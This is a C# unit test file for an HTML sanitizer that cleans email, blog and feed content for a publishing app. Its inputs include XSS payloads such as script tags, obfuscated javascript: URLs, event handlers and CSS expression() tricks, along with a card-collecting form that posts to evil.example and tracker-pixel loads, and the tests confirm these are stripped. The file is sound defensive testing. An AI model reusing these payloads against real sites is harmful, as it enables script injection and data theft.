using Publisher.Templates.Html;

namespace Publisher.Templates.Tests.Html;

/// <summary>The one HTML policy every email, blog page and feed entry goes through.</summary>
public class SafeHtmlPolicyTests
{
    private static readonly SafeHtmlPolicy Policy = SafeHtmlPolicy.Instance;
    private static readonly ImagePolicy Images = new() { MediaBaseUrl = "https://publisher.example/media/", Hosts = ["cdn.brand.example"] };

    [Theory]
    [InlineData("<script>alert(1)</script>", "<script>")]
    [InlineData("<style>body{display:none}</style>", "<style>")]
    [InlineData("<form action=\"https://evil.example/steal\"><input name=card><button>Pay</button></form>", "<form>")]
    [InlineData("<input type=password>", "<input>")]
    [InlineData("<button>Click</button>", "<button>")]
    [InlineData("<textarea>x</textarea>", "<textarea>")]
    [InlineData("<select><option>x</option></select>", "<select>")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe>", "<iframe>")]
    [InlineData("<object data=\"x.swf\"></object>", "<object>")]
    [InlineData("<embed src=\"x.swf\">", "<embed>")]
    [InlineData("<video src=\"https://evil.example/v.mp4\"></video>", "<video>")]
    [InlineData("<svg><script>alert(1)</script></svg>", "<svg>")]
    [InlineData("<math><mi>x</mi></math>", "<math>")]
    [InlineData("<base href=\"https://evil.example/\">", "<base>")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", "<meta>")]
    [InlineData("<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">", "<link>")]
    public void Elements_that_run_load_or_collect_anything_are_removed(string html, string reported)
    {
        var safe = Policy.SanitizeFragment("<p>keep</p>" + html, Images);
        Assert.Contains(reported, safe.Removed);
        Assert.Equal("<p>keep</p>", safe.Html.Trim());
    }

    [Theory]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"JaVaScRiPt:alert(1)\">x</a>")]
    [InlineData("<a href=\"java&#x09;script:alert(1)\">x</a>")]
    [InlineData("<a href=\" javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"vbscript:msgbox(1)\">x</a>")]
    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>")]
    [InlineData("<img src=\"data:image/png;base64,AAAA\">")]
    [InlineData("<img src=\"javascript:alert(1)\">")]
    [InlineData("<p onclick=\"alert(1)\">x</p>")]
    [InlineData("<img src=\"/media/a/b.png\" onerror=\"alert(1)\">")]
    [InlineData("<a href=\"https://ok.example\" onmouseover=\"alert(1)\">x</a>")]
    [InlineData("<p style=\"background:url(javascript:alert(1))\">x</p>")]
    [InlineData("<p style=\"background-image:url(https://tracker.example/p.gif)\">x</p>")]
    [InlineData("<p style=\"width:expression(alert(1))\">x</p>")]
    [InlineData("<p style=\"behavior:url(x.htc)\">x</p>")]
    [InlineData("<p style=\"color:red;\\62 ackground:url(x)\">x</p>")]
    [InlineData("<p data-publisher-style=\"background:url(https://tracker.example/p.gif)\">x</p>")]
    public void Script_urls_event_attributes_and_css_that_loads_or_runs_never_survive(string html)
    {
        var safe = Policy.SanitizeFragment(html, Images);
        Assert.NotEmpty(safe.Removed);
        foreach (var bad in new[] { "javascript", "vbscript", "data:", "onclick", "onerror", "onmouseover", "url(", "expression", "behavior", "\\62" })
            Assert.DoesNotContain(bad, safe.Html, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void Images_come_only_from_the_apps_media_and_the_brands_hosts()
    {
        var safe = Policy.SanitizeFragment(
            "<img src=\"https://cdn.brand.example/a.png\" alt=\"a\">" +
            "<img src=\"https://publisher.example/media/0f/b.png\" alt=\"b\">" +
            "<img src=\"/media/0f/c.png\" alt=\"c\">" +
            "<img src=\"https://tracker.example/pixel.gif\" alt=\"t\">" +
            "<img src=\"http://cdn.brand.example/d.png\" alt=\"d\">" +
            "<img src=\"https://cdn.brand.example.evil.example/e.png\" alt=\"e\">" +
            "<img src=\"//tracker.example/f.png\" alt=\"f\">" +
            "<img src=\"https://publisher.example/admin/g.png\" alt=\"g\">", Images);
        Assert.Contains("alt=\"a\"", safe.Html);
        Assert.Contains("alt=\"b\"", safe.Html);
        Assert.Contains("alt=\"c\"", safe.Html);
        foreach (var refused in new[] { "t", "d", "e", "f", "g" })
            Assert.DoesNotContain($"alt=\"{refused}\"", safe.Html); // the whole <img>, not only its address
        Assert.Contains(safe.Removed, r => r.Contains("tracker.example"));
    }

    [Fact]
    public void A_responsive_image_keeps_its_srcset_only_when_every_address_in_it_is_allowed()
    {
        const string own = "<img src=\"/media/0f/a.png\" srcset=\"/media/0f/a-320.png 320w, https://publisher.example/media/0f/a-640.png 640w\" sizes=\"(max-width: 42rem) 100vw, 42rem\" loading=\"lazy\" alt=\"a\">";
        var kept = Policy.SanitizeFragment(own, Images);
        Assert.Empty(kept.Removed);
        Assert.Equal(own, kept.Html);

        var foreign = Policy.SanitizeFragment(
            "<img src=\"/media/0f/b.png\" srcset=\"/media/0f/b-320.png 320w, https://tracker.example/p.gif 640w\" loading=\"javascript:x\" alt=\"b\">" +
            "<p srcset=\"/media/0f/c.png 1x\" sizes=\"100vw\">c</p>", Images);
        Assert.DoesNotContain("tracker.example", foreign.Html);
        Assert.DoesNotContain("loading", foreign.Html);
        Assert.Contains("src=\"/media/0f/b.png\"", foreign.Html); // the image stays, from its allowed src
        Assert.Equal("<p>c</p>", foreign.Html[foreign.Html.IndexOf("<p", StringComparison.Ordinal)..]);
        Assert.Contains("the attribute srcset on <img>", foreign.Removed);
    }

    [Fact]
    public void What_email_needs_passes_exactly_as_written_hex_colours_included()
    {
        const string html = "<table role=\"presentation\" width=\"600\" cellpadding=\"0\" cellspacing=\"0\"><tbody><tr><td align=\"center\" style=\"padding:24px 12px;background:#f2f4f5;font-family:Georgia, 'Times New Roman', serif;\">" +
                            "<h1 style=\"margin:0 0 16px 0;font-size:26px;\">Title</h1><p>Text with <strong>bold</strong>, <em>em</em> and <a href=\"https://example.com/?a=1&amp;b=2\" style=\"color:#ffffff;border-radius:4px;\">a link</a>.</p>" +
                            "<ul><li>one</li></ul><blockquote>q</blockquote><p><a href=\"mailto:hello@example.com\">mail</a><br><time datetime=\"2026-01-01T09:00:00Z\">1 Jan</time></p></td></tr></tbody></table>";
        var safe = Policy.SanitizeFragment(html, Images);
        Assert.Empty(safe.Removed);
        Assert.Equal(html, safe.Html);
    }

    [Fact]
    public void A_whole_page_keeps_its_head_but_only_the_safe_parts()
    {
        const string page = "<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width\"><title>T</title>" +
                            "<link rel=\"canonical\" href=\"https://example.com/a\"><style>body { margin: 0; background: #f4f5f7; }\na { color: #d9480f; }</style></head>" +
                            "<body style=\"margin:0;\"><p>x</p></body></html>";
        var safe = Policy.SanitizeDocument(page, Images);
        Assert.Empty(safe.Removed);
        Assert.Contains("background: #f4f5f7;", safe.Html);
        Assert.Contains("<link rel=\"canonical\" href=\"https://example.com/a\">", safe.Html);

        var hostile = Policy.SanitizeDocument(page.Replace("<title>", "<meta http-equiv=\"refresh\" content=\"0\"><link rel=\"stylesheet\" href=\"https://evil.example/x.css\"><title>")
            .Replace("a { color", "@import url(https://evil.example/x.css); a { background: url(https://evil.example/p.gif); color"), Images);
        Assert.DoesNotContain("evil.example", hostile.Html);
        Assert.DoesNotContain("refresh", hostile.Html);
        Assert.Contains("<meta>", hostile.Removed);
        Assert.Contains("<link>", hostile.Removed);
    }

    [Fact]
    public void The_blogs_own_stylesheet_passes_whole_media_queries_included_and_a_hostile_media_block_does_not()
    {
        var css = Publisher.Templates.Rendering.BlogLook.Css(Publisher.Templates.Rendering.LayoutBrand.Of(new Publisher.Templates.Model.BrandInput { Name = "Northwind" }));
        Assert.Contains("@media", css);
        var page = $"<!DOCTYPE html><html lang=\"en\"><head><title>T</title><style>{css}</style></head><body><p>x</p></body></html>";
        var safe = Policy.SanitizeDocument(page, Images);
        Assert.Empty(safe.Removed);
        Assert.Contains("@media (max-width: 600px)", safe.Html);
        Assert.Contains(".site a:not(.logo)", safe.Html);
        Assert.Contains("flex-direction: column", safe.Html);

        var hostile = Policy.SanitizeDocument(page.Replace("@media (max-width: 600px) {", "@media (max-width: 600px) { p { background: url(https://evil.example/p.gif); }")
            .Replace("<style>", "<style>@media screen and url(x) { a { color: red; } } @supports (display: grid) { a { color: red; } }"), Images);
        Assert.DoesNotContain("evil.example", hostile.Html);
        Assert.DoesNotContain("@supports", hostile.Html);
        Assert.DoesNotContain("url(x)", hostile.Html);
        Assert.Contains("@media (max-width: 600px)", hostile.Html); // the rest of the block stays
    }

    [Fact]
    public void A_feed_entry_gets_the_same_policy_for_its_html_and_only_web_addresses()
    {
        const string entry = "<entry xmlns=\"http://www.w3.org/2005/Atom\" xmlns:media=\"http://search.yahoo.com/mrss/\">" +
                             "<title>T</title><link rel=\"alternate\" href=\"javascript:alert(1)\"/><link rel=\"related\" href=\"https://example.com/r\"/>" +
                             "<media:thumbnail url=\"https://tracker.example/p.gif\"/>" +
                             "<summary type=\"html\">&lt;b onclick=\"x()\"&gt;S&lt;/b&gt;</summary>" +
                             "<content type=\"html\">&lt;p&gt;Body&lt;/p&gt;&lt;form&gt;&lt;input name=\"card\"&gt;&lt;/form&gt;&lt;img src=\"https://tracker.example/p.gif\"&gt;</content></entry>";
        var safe = Policy.SanitizeFeedEntry(entry, Images)!;
        Assert.DoesNotContain("javascript", safe.Html);
        Assert.DoesNotContain("tracker.example", safe.Html);
        Assert.DoesNotContain("form", safe.Html);
        Assert.DoesNotContain("onclick", safe.Html);
        Assert.Contains("https://example.com/r", safe.Html);
        Assert.Contains("&lt;p&gt;Body&lt;/p&gt;", safe.Html);
        Assert.Contains(safe.Removed, r => r.Contains("thumbnail"));
        Assert.Null(Policy.SanitizeFeedEntry("<entry>", Images));
    }

    [Fact]
    public void Nesting_is_measured_like_a_browser_builds_it()
    {
        Assert.Equal(1, SafeHtmlPolicy.FindTooDeep(string.Concat(Enumerable.Repeat("<b>", SafeHtmlPolicy.MaxDepth + 1))));
        Assert.Equal(3, SafeHtmlPolicy.FindTooDeep("<p>\n<div>\n" + string.Concat(Enumerable.Repeat("<div>", SafeHtmlPolicy.MaxDepth))));
        // Siblings, closed tags, void elements, optional end tags and script text do not add up.
        Assert.Null(SafeHtmlPolicy.FindTooDeep(string.Concat(Enumerable.Repeat(
            "<p>a<p>b<div>c</div><ul><li>d<li>e</ul><dl><dt>f<dd>g</dl><table><tr><td>h<td>i<tr><th>j</table><br><img src=x><hr/><b>x</b>", 5_000))));
        Assert.Null(SafeHtmlPolicy.FindTooDeep("<script>" + string.Concat(Enumerable.Repeat("<div>", 10_000)) + "</script><!-- " + new string('<', 5_000) + " -->"));
    }
}
